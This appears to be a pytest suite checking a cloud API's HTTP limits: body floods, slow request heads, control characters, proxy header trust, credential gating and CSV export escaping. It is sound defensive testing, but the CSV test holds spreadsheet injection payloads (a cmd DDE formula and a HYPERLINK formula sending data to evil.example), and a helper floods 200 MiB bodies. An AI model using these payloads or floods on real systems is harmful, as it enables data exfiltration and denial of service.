"""HTTP limits of the cloud API: bodies refused before they are read, slow heads cut off,
control characters refused, the client address behind proxies, what needs credentials."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import socket
import subprocess
import sys
import threading
import warnings
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from cloud_service.api.app import create_app
from cloud_service.exports import COLUMNS, ExportRow, write_export
from cloud_service.settings import CloudSettings
from shared.broker import free_port
from shared.manifest import FleetSigningKey
from tests.asgi import call_asgi
from tests.cloud_service.conftest import wait_until

with warnings.catch_warnings():
    # Starlette 1.x warns that its TestClient wants the httpx2 package; the httpx
    # we have works, and pytest turns warnings into errors at import time.
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

ADMIN_TOKEN = "test-admin-token-for-http-limits"
ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
MB = 1 << 20
FLOOD_BYTES = 200 * MB


# --- a real `cloud-service api` process ------------------------------------------------


@dataclass
class ApiProcess:
    process: subprocess.Popen[bytes]
    port: int
    log: Path

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def status(self, field: str) -> int:
        """A /proc/<pid>/status figure in bytes (VmRSS, VmHWM)."""
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            if line.startswith(field + ":"):
                return int(line.split()[1]) * 1024
        raise AssertionError(f"no {field} in /proc/{self.process.pid}/status")

    def reset_peak(self) -> None:
        Path(f"/proc/{self.process.pid}/clear_refs").write_text("5")  # VmHWM := VmRSS


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiProcess]:
    data = tmp_path_factory.mktemp("http-limits")
    port = free_port("127.0.0.1")
    log = data / "api.log"
    env = {
        **os.environ,
        "EDGELOOP_DATA_DIR": str(data),
        "EDGELOOP_ADMIN_TOKEN": ADMIN_TOKEN,
        "EDGELOOP_ROLLOUT_TICK_S": "0",
        "EDGELOOP_HTTP_HEADER_TIMEOUT_S": "0.5",
        "EDGELOOP_LOG_LEVEL": "WARNING",
    }
    with log.open("ab") as handle:
        process = subprocess.Popen(
            [sys.executable, "-m", "cloud_service", "api", "--port", str(port)],
            env=env,
            stdout=handle,
            stderr=subprocess.STDOUT,
        )
    running = ApiProcess(process, port, log)

    def healthy() -> bool:
        if process.poll() is not None:
            raise RuntimeError(f"the API exited: {log.read_text()}")
        try:
            return httpx.get(f"{running.url}/healthz", timeout=2).status_code == 200
        except httpx.HTTPError:
            return False

    try:
        assert wait_until(healthy, timeout=90, step=0.2), log.read_text()
        yield running
    finally:
        process.terminate()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()


def _head(method: str, path: str, headers: dict[str, str]) -> bytes:
    lines = [
        f"{method} {path} HTTP/1.1",
        "Host: 127.0.0.1",
        *(f"{k}: {v}" for k, v in headers.items()),
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _status_of_head(url_port: int, head: bytes) -> tuple[int, bytes]:
    """Send only a request head and read the answer: the server decides without the body."""
    with socket.create_connection(("127.0.0.1", url_port), timeout=30) as sock:
        sock.sendall(head)
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
        head_part, _, rest = answer.partition(b"\r\n\r\n")
        length = 0
        for line in head_part.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value)
        while len(rest) < length:
            chunk = sock.recv(65536)
            if not chunk:
                break
            rest += chunk
        return int(head_part.split(b" ", 2)[1]), rest


def _flood(port: int, path: str, chunked: bool, results: list[str]) -> None:
    """POST FLOOD_BYTES of JSON whitespace with no credentials, streamed 1 MiB at a time,
    with a declared length or chunked (no length)."""
    chunk = b" " * MB
    framing = {"Transfer-Encoding": "chunked"} if chunked else {"Content-Length": str(FLOOD_BYTES)}
    head = _head("POST", path, {"Content-Type": "application/json", **framing})
    if chunked:
        chunk = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=120) as sock:
            sock.sendall(head)
            for _ in range(FLOOD_BYTES // MB):
                sock.sendall(chunk)
            if chunked:
                sock.sendall(b"0\r\n\r\n")
            results.append(sock.recv(64).split(b"\r\n", 1)[0].decode(errors="replace"))
    except OSError as exc:  # the server closed the connection after refusing it
        results.append(f"closed: {exc.__class__.__name__}")


def test_unauthenticated_floods_are_refused_before_their_bodies_are_read(api: ApiProcess) -> None:
    api.reset_peak()
    before = api.status("VmRSS")
    results: list[str] = []
    threads = [
        threading.Thread(target=_flood, args=(api.port, "/v1/rollouts", chunked, results))
        for chunked in (False, False, True, True)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=300)
    assert len(results) == 4, results
    growth = api.status("VmHWM") - before
    assert growth < 100 * MB, f"RSS grew by {growth / MB:.0f} MiB under 4 x 200 MiB: {results}"
    # Still serving.
    assert httpx.get(f"{api.url}/healthz", timeout=10).status_code == 200


def test_declared_bodies_over_the_limit_or_without_credentials(api: ApiProcess) -> None:
    big = {"Content-Type": "application/json", "Content-Length": str(FLOOD_BYTES)}
    status, body = _status_of_head(api.port, _head("POST", "/v1/enroll", big))
    assert status == 413, body
    assert b'"limit_bytes": 1048576' in body and b"accepted" in body
    status, body = _status_of_head(api.port, _head("POST", "/v1/rollouts", big))
    assert status == 413, body
    # Within the limit, but no credentials: refused before the body comes (none is sent).
    small = {"Content-Type": "application/json", "Content-Length": "1000"}
    status, body = _status_of_head(api.port, _head("POST", "/v1/rollouts", small))
    assert status == 401, body
    status, body = _status_of_head(
        api.port, _head("POST", "/v1/models", {**big, **ADMIN, "Content-Length": str(1 << 30)})
    )
    assert status == 413, body
    # A credential that does not authenticate is no better than none.
    wrong = {**small, "Authorization": "Bearer ela_not-a-token"}
    status, body = _status_of_head(api.port, _head("POST", "/v1/rollouts", wrong))
    assert status == 401, body


def test_a_slow_request_head_is_cut_off(api: ApiProcess) -> None:
    with socket.create_connection(("127.0.0.1", api.port), timeout=60) as sock:
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # never finished
        assert sock.recv(1024) == b""  # closed by the server (the timeout is a safety net)
    # After a response, the next head is held to the same time.
    with socket.create_connection(("127.0.0.1", api.port), timeout=60) as sock:
        sock.sendall(_head("GET", "/healthz", {}))
        answer = b""
        while b'"ok"' not in answer:
            answer += sock.recv(4096)
        assert answer.startswith(b"HTTP/1.1 200")
        sock.sendall(b"GET /healthz HTT")
        assert sock.recv(1024) == b""


def test_forwarded_for_from_an_untrusted_peer_buys_no_fresh_login_buckets(api: ApiProcess) -> None:
    statuses = []
    with httpx.Client(base_url=api.url, timeout=30) as client:
        for i in range(40):
            response = client.post(
                "/ui/login",
                data={"username": "nobody", "password": "x" * 12},
                headers={"X-Forwarded-For": f"203.0.113.{i + 1}"},
            )
            statuses.append(response.status_code)
    assert 429 in statuses, statuses


def test_control_characters_in_the_query_are_a_400_on_the_wire(api: ApiProcess) -> None:
    response = httpx.get(f"{api.url}/v1/samples?agent=%00", headers=ADMIN, timeout=30)
    assert response.status_code == 400, response.text
    assert response.json()["reason"] == "control_character"


# --- in-process: the ASGI app called directly ------------------------------------------


@pytest.fixture
def settings_for(
    make_settings: Callable[..., CloudSettings], tmp_path: Path
) -> Callable[..., CloudSettings]:
    def make(**overrides: Any) -> CloudSettings:
        return make_settings(admin_token=ADMIN_TOKEN, rollout_tick_s=0, **overrides)

    return make


async def _call(
    app: Any, method: str, path: str, headers: dict[str, str], chunks: list[bytes]
) -> tuple[int, dict[str, str], bytes, int]:
    """Run one request through ``app``; (status, headers, body, body chunks it pulled)."""
    return await call_asgi(app, method, path, headers, chunks)


def test_a_chunked_upload_is_cut_off_at_the_limit(
    settings_for: Callable[..., CloudSettings],
) -> None:
    app = create_app(settings_for(http_max_model_bytes=MB))
    boundary = "edgeloop"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="m.onnx"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    chunks = [head] + [b"\0" * 65536] * 160  # 10 MiB of model, chunked (no length)
    headers = {
        **ADMIN,
        "Content-Type": f"multipart/form-data; boundary={boundary}",
        "Transfer-Encoding": "chunked",
    }
    status, _, body, pulled = asyncio.run(_call(app, "POST", "/v1/models", headers, chunks))
    assert status == 413, body
    assert pulled <= 1 + MB // 65536 + 1, f"read {pulled} chunks past the 1 MiB limit"
    # Without credentials, not one chunk is read.
    del headers["Authorization"]
    status, _, body, pulled = asyncio.run(_call(app, "POST", "/v1/models", headers, chunks))
    assert (status, pulled) == (401, 0), body


def test_a_ui_form_without_a_session_is_not_read(
    settings_for: Callable[..., CloudSettings],
) -> None:
    app = create_app(settings_for())
    form = {"Content-Type": "application/x-www-form-urlencoded", "Content-Length": "9"}
    status, headers, _, pulled = asyncio.run(
        _call(app, "POST", "/ui/queue/bulk", form, [b"action=go"])
    )
    assert (status, pulled) == (303, 0)
    assert headers["location"].startswith("/ui/login")
    forged = {**form, "Cookie": "edgeloop_session=eyJ1IjoxfQ.bm90LWEtbWFj"}
    status, _, _, pulled = asyncio.run(_call(app, "POST", "/ui/queue/bulk", forged, [b"action=go"]))
    assert (status, pulled) == (303, 0)


@pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)
@pytest.mark.parametrize(
    "path",
    [
        "/v1/samples?agent=%00",
        "/v1/samples?fleet=a%00b",
        "/v1/verdicts?agent=%01",
        "/v1/agents/cam%00",
        "/v1/models?name=x%00",
        "/v1/exports?fleet=%00",
    ],
)
def test_control_characters_are_a_400_never_a_500(
    settings_for: Callable[..., CloudSettings], database_url: str, path: str
) -> None:
    with TestClient(create_app(settings_for(database_url=database_url))) as client:
        response = client.get(path, headers=ADMIN)
    assert response.status_code == 400, response.text
    assert response.json()["reason"] == "control_character"
    assert "control character" in response.json()["detail"]


def test_a_v2_shape_beyond_the_exact_integers_is_still_a_400(
    settings_for: Callable[..., CloudSettings],
) -> None:
    with TestClient(create_app(settings_for())) as client:
        response = client.post(
            "/v2/models/teacher/infer",
            json={
                "inputs": [
                    {
                        "name": "frames",
                        "shape": [2**52 + 1, 1, 1, 3],
                        "datatype": "UINT8",
                        "data": [],
                    }
                ]
            },
        )
    assert response.status_code == 400, response.text
    assert "error" in response.json()


# --- what needs credentials ----------------------------------------------------------


def test_production_defaults_close_v2_docs_and_metrics() -> None:
    production = CloudSettings(env="production")
    assert production.resolved_v2_auth and production.resolved_metrics_auth
    assert not production.resolved_docs_public
    assert production.resolved_cookie_secure is True
    development = CloudSettings()
    assert not development.resolved_v2_auth and not development.resolved_metrics_auth
    assert development.resolved_docs_public
    assert development.resolved_cookie_secure is None


def _enrolled_agent_token(client: TestClient) -> str:
    made = client.post(
        "/v1/enrollment-tokens", json={"fleet": "fleet-a", "ttl_s": 600}, headers=ADMIN
    )
    assert made.status_code == 201, made.text
    enrolled = client.post("/v1/enroll", json={"token": made.json()["token"], "agent_id": "cam-1"})
    assert enrolled.status_code == 200, enrolled.text
    token: str = enrolled.json()["api_token"]
    return token


def test_v2_docs_and_metrics_behind_credentials(
    settings_for: Callable[..., CloudSettings], tmp_path: Path
) -> None:
    key_file = tmp_path / "fleet.pem"
    FleetSigningKey.generate().save(key_file)
    settings = settings_for(
        env="production",
        signing_key_file=key_file,
        metrics_token="scrape-token-for-prometheus",
    )
    with TestClient(create_app(settings)) as client:
        agent = {"Authorization": f"Bearer {_enrolled_agent_token(client)}"}
        scrape = {"Authorization": "Bearer scrape-token-for-prometheus"}
        for path in ("/v2", "/v2/models/teacher", "/v2/health/ready"):
            refused = client.get(path)
            assert refused.status_code == 401 and "error" in refused.json(), path
            assert refused.headers["www-authenticate"] == "Bearer"
            assert client.get(path, headers=ADMIN).status_code == 200, path
            assert client.get(path, headers=agent).status_code == 200, path
        assert client.get("/v2", headers=scrape).status_code == 401
        for path in ("/docs", "/redoc", "/openapi.json"):
            assert client.get(path).status_code == 401, path
            assert client.get(path, headers=agent).status_code == 401, path
            assert client.get(path, headers=ADMIN).status_code == 200, path
        assert client.get("/metrics").status_code == 401
        assert client.get("/metrics", headers=agent).status_code == 401
        assert client.get("/metrics", headers=scrape).status_code == 200
        assert client.get("/metrics", headers=ADMIN).status_code == 200
        assert client.get("/healthz").status_code == 200


def test_development_keeps_v2_docs_and_metrics_open(
    settings_for: Callable[..., CloudSettings],
) -> None:
    with TestClient(create_app(settings_for())) as client:
        for path in ("/v2", "/openapi.json", "/metrics"):
            assert client.get(path).status_code == 200, path


# --- client address and Secure cookies -------------------------------------------------


def test_forwarded_for_is_believed_from_trusted_proxies_only() -> None:
    from shared.http_limits import client_address, parse_networks

    trusted = parse_networks(["10.0.0.0/8", "::1"])
    assert client_address("10.1.2.3", ["198.51.100.7, 10.0.0.9"], trusted) == "198.51.100.7"
    # The left-most hops are the client's to write: the right-most untrusted one counts.
    assert client_address("10.1.2.3", ["1.1.1.1, 198.51.100.7"], trusted) == "198.51.100.7"
    assert client_address("203.0.113.5", ["198.51.100.7"], trusted) == "203.0.113.5"
    assert client_address("127.0.0.1", ["198.51.100.7"], parse_networks([])) == "127.0.0.1"
    assert client_address("10.1.2.3", [], trusted) == "10.1.2.3"


def _login_attempts(client: TestClient, count: int, forwarded: Callable[[int], str]) -> list[int]:
    return [
        client.post(
            "/ui/login",
            data={"username": "nobody", "password": "x" * 12},
            headers={"X-Forwarded-For": forwarded(i)},
        ).status_code
        for i in range(count)
    ]


def test_login_buckets_follow_the_client_behind_a_trusted_ingress(
    settings_for: Callable[..., CloudSettings],
) -> None:
    settings = settings_for(trusted_proxies=["10.0.0.0/8"])
    app = create_app(settings)
    with TestClient(app, client=("10.0.0.2", 40000)) as ingress:
        # Two users behind one ingress: one exhausting its bucket leaves the other alone.
        first = _login_attempts(ingress, 15, lambda i: "198.51.100.7")
        assert 429 in first
        assert 429 not in _login_attempts(ingress, 5, lambda i: "198.51.100.8")
    with TestClient(create_app(settings), client=("203.0.113.9", 40000)) as direct:
        # A peer that is no proxy: its headers are ignored, its address is charged.
        assert 429 in _login_attempts(direct, 15, lambda i: f"198.51.100.{i + 1}")


def test_cookies_are_secure_when_configured_or_over_https_via_a_trusted_proxy(
    settings_for: Callable[..., CloudSettings],
) -> None:
    with TestClient(create_app(settings_for(cookie_secure=True))) as client:
        assert "secure" in client.get("/ui/login").headers["set-cookie"].lower()
    app = create_app(settings_for(trusted_proxies=["10.0.0.0/8"]))
    https = {"X-Forwarded-Proto": "https"}
    with TestClient(app, client=("10.0.0.2", 40000)) as proxied:
        assert "secure" in proxied.get("/ui/login", headers=https).headers["set-cookie"].lower()
        assert "secure" not in proxied.get("/ui/login").headers["set-cookie"].lower()
    with TestClient(create_app(settings_for()), client=("127.0.0.1", 40000)) as direct:
        # Loopback is no proxy unless listed: its X-Forwarded-Proto is ignored.
        assert "secure" not in direct.get("/ui/login", headers=https).headers["set-cookie"].lower()


# --- CSV exports -------------------------------------------------------------------


def test_every_csv_cell_a_spreadsheet_would_run_is_defused() -> None:
    hostile = "=cmd|' /C calc'!A0"
    row = ExportRow(
        sample_id="s-1",
        label=0,
        class_name="@SUM(1+1)",
        source="human",
        labeled_by=hostile,
        labeled_at=None,
        status="labeled",
        agent_id="cam-1",
        fleet="fleet-a",
        captured_at=datetime(2026, 1, 1, tzinfo=UTC),
        model_name="+student",
        model_version='=HYPERLINK("http://evil.example/?x="&A1,"open")',
        classes=("-a", "b"),
        edge_label=0,
        edge_confidence=0.5,
        teacher_label=1,
        teacher_confidence=0.9,
        teacher_model="teacher",
        teacher_version="\t=1+1",
        route_reason="\r=1+1",
        image_key="k",
        image_format="jpeg",
        image_width=1,
        image_height=1,
    )
    out = io.BytesIO()
    write_export("csv", [row], out, blobs=None, image_url=str)  # type: ignore[arg-type]
    (record,) = list(csv.DictReader(io.StringIO(out.getvalue().decode())))
    assert record["labeled_by"] == "'" + hostile
    assert record["model_version"].startswith("'=HYPERLINK")
    for column in COLUMNS:
        assert not record[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
